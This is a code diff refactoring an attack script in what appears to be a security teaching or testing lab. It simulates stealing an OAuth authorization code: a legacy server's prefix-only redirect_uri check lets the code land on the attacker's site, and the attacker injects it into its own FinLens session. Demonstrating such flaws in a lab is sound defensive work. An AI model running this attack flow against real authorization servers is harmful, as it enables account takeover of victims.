@@ -10,39 +10,24 @@ code lands on the attacker's site; the attacker injects it into its own FinLens 
 
 from __future__ import annotations
 
-import secrets
-from urllib.parse import quote, urlencode
-
 from attacker import fixtures
-from attacker import frontchannel as fc
 from attacker.context import AttackContext
-from attacker.inject import inject_code
+from attacker.inject import code_lured_to_site, inject_code
 from attacker.model import Attack
-from lab.authserver.clients import TPP_CLIENT_ID
 
 STEAL_PATH = "/callback"   # FinLens's path: the prefix the legacy AS compares
 
 
 def run(ctx: AttackContext) -> None:
     fx = fixtures.ensure_running(ctx)
-    since = fx.mark()
     redirect_uri = fx.site + STEAL_PATH
-    url = ctx.url("as", "/authorize") + "?" + urlencode({
-        "response_type": "code", "client_id": TPP_CLIENT_ID, "redirect_uri": redirect_uri,
-        "scope": fc.FINLENS_SCOPE, "state": secrets.token_urlsafe(16)})
-    ctx.step("attacker", f"builds an authorization request for FinLens's client_id with "
-             f"redirect_uri={redirect_uri} and mails the victim a link to it", url=url)
-    victim = ctx.victim("alice")
-    victim.sign_in()
-    result = victim.authorize(fx.site + "/lure?to=" + quote(url, safe=""), deliver=False)
-    victim.visit(result.callback_url or "")
-    got = [r for r in fx.received(ctx, "site", since=since, path=STEAL_PATH)
-           if r.query().get("code")]
-    if not got:
-        ctx.failed("no code reached the attacker's site")
-    code = got[-1].query()["code"]
-    ctx.step("attacker", "reads the victim's code from its own site's log")
-    inject_code(ctx, code, victim.username, iss=got[-1].query().get("iss"),
+    got = code_lured_to_site(
+        ctx, fx, redirect_uri, STEAL_PATH,
+        built=f"builds an authorization request for FinLens's client_id with "
+              f"redirect_uri={redirect_uri} and mails the victim a link to it",
+        missing="no code reached the attacker's site",
+        read="reads the victim's code from its own site's log")
+    inject_code(ctx, got["code"], got["victim"], iss=got.get("iss"),
                 source="its site received")
 
 
